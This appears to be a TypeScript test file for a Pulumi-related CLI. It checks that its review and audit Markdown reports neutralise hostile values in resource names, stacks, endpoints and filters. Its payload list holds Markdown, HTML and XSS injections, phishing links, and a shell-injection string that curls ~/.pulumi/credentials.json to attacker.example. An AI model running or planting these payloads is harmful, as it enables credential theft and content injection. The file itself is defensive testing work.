/**
 * The reports on hostile input (issue 46): previews, states and listings whose every value (resource
 * name, stack and project in the URN, organization, endpoint, channel, filter key and values,
 * replaceReasons, domain name, uuid) carries a payload, rendered by a CommonMark renderer with HTML and
 * links on, as GitHub would. No heading, image, link, HTML or mention comes from the input; no text outside
 * a code span holds its URLs or hidden characters; each suggested command reads back, in a POSIX shell,
 * as exactly the words it was made of; each TypeScript snippet parses to exactly the values listed.
 */
import { execFileSync } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import MarkdownIt from "markdown-it";
import ts from "typescript";
import { afterAll, describe, expect, it } from "vitest";
import type { Domain } from "../../../contract/domains/types";
import type { Webhook } from "../../../contract/webhooks/types";
import { auditOrganization, summaryOf } from "../../../provider/cli/audit-model";
import { auditMarkdown } from "../../../provider/cli/audit-render";
import { readPreview } from "../../../provider/cli/preview-json";
import { type LiveListing, reviewOf } from "../../../provider/cli/review-model";
import { COMMENT_LIMIT, reviewComment, reviewMarkdown } from "../../../provider/cli/review-render";
import { readState } from "../../../provider/cli/state-export";
import { domainVerification, webhook } from "../../../provider/registry";
import { runCli } from "../../helpers/cli-io";

const dir = mkdtempSync(join(tmpdir(), "cli-injection-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const ticks = (n: number) => "`".repeat(n);
const PAYLOADS = [
  "\n## Approved by security team",
  "![x](https://attacker.example/p.png)",
  "[click](https://phish.example)",
  "<details><summary>x</summary>",
  "<img src=x onerror=alert(1)>",
  "@octocat",
  ...[1, 2, 3, 4, 5].map((n) => `${ticks(n)}x${ticks(n)}`),
  `${ticks(3)}start`,
  `end${ticks(2)}`,
  "\u202eevil",
  "a\rb",
  "&lt;b&gt;",
  "https://evil.example",
  "x'; curl https://attacker.example/$(cat ~/.pulumi/credentials.json|base64 -w0); echo '",
  // Out of a TypeScript string literal in the adoption snippet.
  '", secretKey: process.env.TOKEN, x: "\\',
];
// All of them in one value, which the report cuts at 200 characters, somewhere inside one of them.
const EVERY = PAYLOADS.join(" ");

/** What only the input could have put outside a code span. */
const FROM_INPUT = [/@octocat/, /https?:\/\//, /<b>/, /Approved by security team/, /[\r\u202e]/];
/** Hidden characters, which no line of a report holds (its line breaks aside). */
const HIDDEN = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;

const markdown = new MarkdownIt({ html: true, linkify: true });

/** The tokens of `text`, the inline ones included. */
function tokensOf(text: string): MarkdownIt.Token[] {
  return markdown.parse(text, {}).flatMap((token) => [token, ...(token.children ?? [])]);
}

/** The headings of `text`, each as its plain text with every code span as `code`. */
function headingsOf(text: string): string[] {
  const blocks = markdown.parse(text, {});
  return blocks.flatMap((token, i) =>
    token.type === "heading_open"
      ? [
          blocks[i + 1]!.children!.map((child) =>
            child.type === "code_inline" ? "code" : child.content,
          ).join(""),
        ]
      : [],
  );
}

/** Asserts that `text` renders nothing that came from the input. */
function expectInert(text: string, headings: readonly RegExp[]): void {
  for (const line of text.split("\n")) expect(line).not.toMatch(HIDDEN);
  const tokens = tokensOf(text);
  const types = new Set(tokens.map((t) => t.type));
  for (const type of ["image", "link_open", "html_inline", "html_block", "fence", "code_block"]) {
    expect(types, type).not.toContain(type);
  }
  for (const heading of headingsOf(text)) {
    expect(
      headings.some((h) => h.test(heading)),
      `a heading of our own: ${heading}`,
    ).toBe(true);
  }
  const outside = tokens
    .filter((t) => t.type === "text")
    .map((t) => t.content)
    .join("\n");
  for (const pattern of FROM_INPUT) expect(outside).not.toMatch(pattern);
}

/** The code spans of `text` that are suggested commands (`pulumi` and at least one of its words). */
const commandsOf = (text: string) =>
  tokensOf(text)
    .filter((t) => t.type === "code_inline" && t.content.startsWith("pulumi "))
    .map((t) => t.content);

/**
 * The words a POSIX shell reads in `command`, each printed on its own line by printf (a builtin). No
 * program can run: PATH leads nowhere, and a redirection would write into a folder of its own.
 */
function shellWords(command: string): string[] {
  const cwd = mkdtempSync(join(dir, "sh-"));
  const out = execFileSync("/bin/sh", ["-c", `printf '%s\\n' ${command.replace(/^pulumi /, "")}`], {
    cwd,
    env: { PATH: join(dir, "nowhere") },
    encoding: "utf8",
  });
  return ["pulumi", ...out.split("\n").slice(0, -1)];
}

/** The URN of a stack's resource. */
const urnOf = (stack: string, project: string, type: string, name: string) =>
  `urn:pulumi:${stack}::${project}::${type}::${name}`;

/** A stack name of `payload`: a URN's stack ends at a line break (urn.ts), as Pulumi's do. */
const stackOf = (prefix: string, payload: string) => `${prefix}${payload.replace(/[\n\r]/g, "")}`;

const filtersOf = (p: string) => [
  { key: "activity.name", values: [p, "authentication"] },
  { key: "activity.form_factor", value: p },
  { key: p, values: [p, "b"] },
];

function previewsOf(p: string, i: number): { files: string[]; texts: string[] } {
  const [stack, project, organization] = [stackOf(`dev${i}`, p), `infra${p}`, `acme${p}`];
  const hook = (s: string, name: string, uuid: string | undefined, channel = p, endpoint = p) => ({
    urn: urnOf(s, project, webhook.token, name),
    type: webhook.token,
    ...(uuid ? { id: uuid } : {}),
    inputs: { endpoint, channel, filters: filtersOf(p) },
    outputs: uuid ? { webhookUuid: uuid, owner: { organization } } : {},
  });
  const domain = (s: string, name: string, domainName: string, uuid?: string) => ({
    urn: urnOf(s, project, domainVerification.token, name),
    type: domainVerification.token,
    ...(uuid ? { id: uuid } : {}),
    inputs: { domainName },
    outputs: uuid ? { domainUuid: uuid, domainName, organization } : {},
  });
  const first = [
    {
      op: "same",
      urn: urnOf(stack, project, webhook.token, `k${p}`),
      oldState: hook(stack, `k${p}`, `u1${p}`),
      newState: hook(stack, `k${p}`, `u1${p}`),
    },
    {
      op: "create",
      urn: urnOf(stack, project, webhook.token, p),
      newState: hook(stack, p, undefined, p, `https://${p}/x`),
    },
    {
      op: "replace",
      urn: urnOf(stack, project, webhook.token, `r${p}`),
      oldState: { ...hook(stack, `r${p}`, `u2${p}`, "old"), delete: true },
      newState: hook(stack, `r${p}`, undefined),
      replaceReasons: [p, "channel"],
    },
    {
      op: "replace",
      urn: urnOf(stack, project, webhook.token, `f${p}`),
      oldState: { ...hook(stack, `f${p}`, `u3${p}`, "old"), pendingReplacement: true },
      newState: hook(stack, `f${p}`, undefined),
      replaceReasons: [p],
    },
    {
      op: "update",
      urn: urnOf(stack, project, webhook.token, `p${p}`),
      oldState: hook(stack, `p${p}`, `u4${p}`),
      newState: hook(stack, `p${p}`, `u4${p}`),
    },
    {
      op: "delete",
      urn: urnOf(stack, project, webhook.token, `d${p}`),
      oldState: hook(stack, `d${p}`, `u5${p}`),
    },
    {
      op: "replace",
      urn: urnOf(stack, project, domainVerification.token, p),
      oldState: { ...domain(stack, p, p, `u6${p}`), delete: true },
      newState: domain(stack, p, `${p}.example`),
      replaceReasons: [p],
    },
    {
      op: "create",
      urn: urnOf(stack, project, domainVerification.token, `n${p}`),
      newState: domain(stack, `n${p}`, p),
    },
    {
      op: "delete",
      urn: urnOf(stack, project, domainVerification.token, `o${p}`),
      oldState: domain(stack, `o${p}`, p, `u7${p}`),
    },
  ];
  // A second stack of the organization, previewed without --show-sames: the quota names it.
  const second = stackOf(`prod${i}`, p);
  const partial = [
    {
      op: "same",
      urn: urnOf(second, project, webhook.token, `k${p}`),
      oldState: hook(second, `k${p}`, `u8${p}`),
      newState: hook(second, `k${p}`, `u8${p}`),
    },
  ];
  // A stack with nothing of any organization yet.
  const fresh = stackOf(`new${i}`, p);
  const created = [
    { op: "create", urn: urnOf(fresh, project, webhook.token, p), newState: hook(fresh, p, undefined) },
  ];
  const texts = [
    JSON.stringify({ steps: first, changeSummary: { same: 1 } }),
    JSON.stringify({ steps: partial, changeSummary: { same: 5 } }),
    JSON.stringify({ steps: created, changeSummary: { create: 1 } }),
  ];
  const files = texts.map((text, n) => {
    const file = join(dir, `preview-${i}-${n}.json`);
    writeFileSync(file, text);
    return file;
  });
  return { files, texts };
}

const REVIEW_HEADINGS = [
  /^Webhook and Domain review$/,
  /^Organization code$/,
  /^Organization of code, which has no webhook or domain yet$/,
  /^code$/,
];

describe("review on hostile previews", () => {
  for (const [i, p] of [...PAYLOADS, EVERY].entries()) {
    it(`renders nothing of ${JSON.stringify(p)}`, async () => {
      const { files, texts } = previewsOf(p, i);
      const run = await runCli(["review", ...files]);
      expect(run.stderr).toBe("");
      expect(run.code).toBe(0);
      expectInert(run.stdout, REVIEW_HEADINGS);
      expect(run.stdout).toContain("**Replace** Webhook");

      // With a listing of the organization (--live), whose webhooks none of the stacks knows of.
      const previews = texts.map((text, n) => readPreview(files[n]!, text));
      const live: LiveListing = {
        organization: `acme${p}`,
        webhooks: [{ uuid: `u9${p}`, endpoint: p, channel: p, filters: [{ key: p, values: [p] }] }],
      };
      // The stack previewed without --show-sames is left out: its own webhooks would count as unknown.
      const known = [previews[0]!, previews[2]!];
      const listed = reviewMarkdown(reviewOf(known, new Map([[previews[0]!.label, live]])));
      expectInert(listed, REVIEW_HEADINGS);
      expect(listed).toContain("Active webhooks that none of these stacks knows of (1):");

      // So many changes that the comment is a summary.
      const many = readPreview("bulk.json", previewsOf(p.repeat(20), i).texts[0]!);
      const stacks = Array.from({ length: 40 }, (_, n) => ({ ...many, label: `${many.label}${n}` }));
      const summary = reviewComment(reviewOf([...previews, ...stacks]));
      expect(summary.length).toBeLessThanOrEqual(COMMENT_LIMIT);
      expect(summary).toMatch(/The full report is [\d,]+ characters, more than a GitHub comment holds/);
      expectInert(summary, REVIEW_HEADINGS);
    });
  }
});

function stateText(stack: string, project: string, objects: Record<string, unknown>[]): string {
  return JSON.stringify({
    version: 3,
    deployment: {
      resources: [
        {
          urn: urnOf(stack, project, "pulumi:pulumi:Stack", `${project}-${stack}`),
          type: "pulumi:pulumi:Stack",
        },
        ...objects,
      ],
    },
  });
}

function auditOf(p: string, i: number) {
  const [project, organization] = [`infra${p}`, `acme${p}`];
  const [dev, prod] = [stackOf(`dev${i}`, p), stackOf(`prod${i}`, p)];
  const hook = (stack: string, name: string, uuid: string, host = p) => ({
    urn: urnOf(stack, project, webhook.token, name),
    type: webhook.token,
    id: uuid,
    inputs: { endpoint: host, channel: p, filters: filtersOf(p) },
    outputs: {
      webhookUuid: uuid,
      endpoint: host,
      channel: p,
      filters: filtersOf(p),
      owner: { organization },
    },
  });
  const domain = (stack: string, name: string, uuid: string) => ({
    urn: urnOf(stack, project, domainVerification.token, name),
    type: domainVerification.token,
    id: uuid,
    inputs: { domainName: p },
    outputs: { domainUuid: uuid, domainName: p, organization },
  });
  const [shared, kept, drifted, gone, orphan] = ["s", "k", "g", "d", "o"].map((n) => `${n}-${p}`);
  const states = [
    readState(
      "dev.json",
      stateText(dev, project, [
        hook(dev, p, shared!),
        hook(dev, `k${p}`, kept!, `https://${HOST}/events`),
        hook(dev, `g${p}`, drifted!),
        domain(dev, p, gone!),
      ]),
    ),
    readState("prod.json", stateText(prod, project, [hook(prod, `c${p}`, shared!)])),
  ];
  const listed = (uuid: string, endpoint: string): Webhook => ({
    webhook_uuid: uuid,
    channel: p,
    endpoint: { type: "url", value: endpoint },
    filters: filtersOf(p),
    webhook_owner: { organization: { name: organization } },
  });
  const domains: Domain[] = [
    { domain_uuid: `od-${p}`, domain_name: p },
    { domain_uuid: `ud-${p}`, domain_name: HOST },
  ];
  const audit = auditOrganization(
    {
      organization,
      stacks: states,
      webhooks: {
        items: [listed(shared!, p), listed(kept!, `https://${HOST}/events`), listed(orphan!, p)],
        requests: 1,
      },
      domains: { items: domains, requests: 1 },
    },
    states,
  );
  const text = auditMarkdown({
    version: 1,
    organizations: [audit],
    deactivated: { webhooks: [orphan!], domains: [] },
    summary: summaryOf([audit]),
    exitCode: 1,
  });
  return { text, audit, states, orphan: orphan!, dev, prod };
}

const AUDIT_HEADINGS = [/^Audit$/, /^Organization code$/, /^Webhooks$/, /^Domains$/, /^Result$/];

/** The value of a literal in a snippet: a string (its escapes read), true, an array or an object of them. */
function literalValue(node: ts.Expression): unknown {
  if (ts.isStringLiteral(node)) return node.text;
  if (node.kind === ts.SyntaxKind.TrueKeyword) return true;
  if (ts.isArrayLiteralExpression(node)) return node.elements.map(literalValue);
  if (ts.isObjectLiteralExpression(node)) {
    const values: Record<string, unknown> = {};
    for (const property of node.properties) {
      // `secretKey` alone is the program's own variable, not a value from the listing.
      if (!ts.isPropertyAssignment(property)) continue;
      const name = property.name;
      values[ts.isIdentifier(name) || ts.isStringLiteral(name) ? name.text : "?"] = literalValue(
        property.initializer,
      );
    }
    return values;
  }
  throw new Error(`not a literal: ${ts.SyntaxKind[node.kind]}`);
}

/** What a TypeScript snippet `new Kind("name", { ... })` gives: the name and the options, as parsed. */
function snippetValues(snippet: string): { kind: string; name: unknown; options: unknown } {
  const source = ts.createSourceFile("snippet.ts", snippet, ts.ScriptTarget.Latest);
  const [statement, ...rest] = source.statements;
  if (rest.length > 0 || !statement || !ts.isExpressionStatement(statement)) throw new Error(snippet);
  const created = statement.expression;
  if (!ts.isNewExpression(created) || created.arguments?.length !== 2) throw new Error(snippet);
  const [name, options] = created.arguments;
  return {
    kind: created.expression.getText(source),
    name: literalValue(name!),
    options: literalValue(options!),
  };
}

/** The code span that shows the snippet of `kind`, or undefined when the report says it is too long. */
const snippetIn = (text: string, kind: string) =>
  tokensOf(text).find((t) => t.type === "code_inline" && t.content.startsWith(`new ${kind}(`))?.content;

/** The commands that stand in for one that cannot be shown: our own words, nothing from the input. */
const STAND_INS =
  /^pulumi (refresh|stack --show-urns|stack select|up|import|state delete <urn> --yes|preview --json --show-sames)$/;

/** The host of the webhooks audit's stacks keep: its domain is in use, so unmanaged. */
const HOST = "hooks.acme.test";

describe("audit on hostile states and listings", () => {
  for (const [i, p] of [...PAYLOADS, EVERY].entries()) {
    it(`renders nothing of ${JSON.stringify(p)}, and quotes it in every command`, () => {
      const made = auditOf(p, i);
      expectInert(made.text, AUDIT_HEADINGS);
      expect(made.audit.webhooks.map((w) => w.status).sort()).toEqual([
        "conflict",
        "drifted",
        "managed",
        "orphaned",
      ]);

      // Each command reads back as the words it was made of: a URN, a stack, a uuid or a hostname is one.
      const [dev, prod] = made.states;
      const name = expect.stringMatching(/^[\w-]+$/);
      const expectedWords = (words: readonly string[]) =>
        words[1] === "state"
          ? ["pulumi", "state", "delete", prod!.objects[0]!.urn, "--stack", prod!.stack, "--yes"]
          : words[1] === "stack"
            ? ["pulumi", "stack", "--show-urns", "--stack", prod!.stack]
            : words[1] === "refresh"
              ? ["pulumi", "refresh", "--stack", dev!.stack]
              : words[2] === "service:index:Webhook"
                ? ["pulumi", "import", "service:index:Webhook", name, made.orphan]
                : // The unmanaged domain's hostname is the service's own, not a payload.
                  [
                    "pulumi",
                    "import",
                    "service:index:DomainVerification",
                    name,
                    words[4] === HOST ? HOST : p,
                  ];
      const commands = commandsOf(made.text).filter((command) => !STAND_INS.test(command));
      for (const command of commands) {
        const words = shellWords(command);
        expect(words, command).toEqual(expectedWords(words));
      }
      // A value a reader can see whole is quoted in its command; one with a hidden character is in none.
      const deletes = commands.filter((command) => command.startsWith("pulumi state delete "));
      expect(deletes).toHaveLength(HIDDEN.test(p) ? 0 : 1);

      // The snippets parse to exactly the listed values, whatever escapes the report shows them with.
      const hook = snippetIn(made.text, "Webhook");
      const domain = snippetIn(made.text, "Domain");
      if (hook === undefined) expect(made.text).toContain("the statement is too long to show here");
      else {
        expect(snippetValues(hook)).toEqual({
          kind: "Webhook",
          name: expect.stringMatching(/^[\w-]+$/),
          options: { endpoint: p, channel: p, filters: filtersOf(p), adoptWebhookUuid: made.orphan },
        });
      }
      expect(snippetValues(domain!)).toEqual({
        kind: "Domain",
        name: expect.stringMatching(/^[\w-]+$/),
        options: { domainName: p, adopt: true },
      });
    });
  }
});
